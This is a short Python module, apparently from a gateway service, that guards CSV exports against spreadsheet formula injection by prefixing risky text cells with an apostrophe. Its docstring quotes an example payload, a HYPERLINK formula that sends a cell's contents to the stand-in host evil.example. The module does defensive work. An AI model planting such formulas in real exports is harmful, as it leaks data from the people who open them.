"""Every CSV the gateway writes goes through here, so no cell is read as a formula by a spreadsheet.

A text cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which spreadsheet
programs skip before looking) is a formula to Excel, LibreOffice and Google Sheets: a case note
such as `=HYPERLINK("http://evil.example/?"&A1, "Click")` would run when an export is opened.
Such a cell is written with a leading apostrophe (OWASP's advice), which those programs show as
text. Numbers are written as they are (a negative number is a number, not a formula). Other cells
are unchanged, so the file still reads back exactly for anything that is not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value to write: text that a spreadsheet would run as a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The whole CSV (header first) with every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
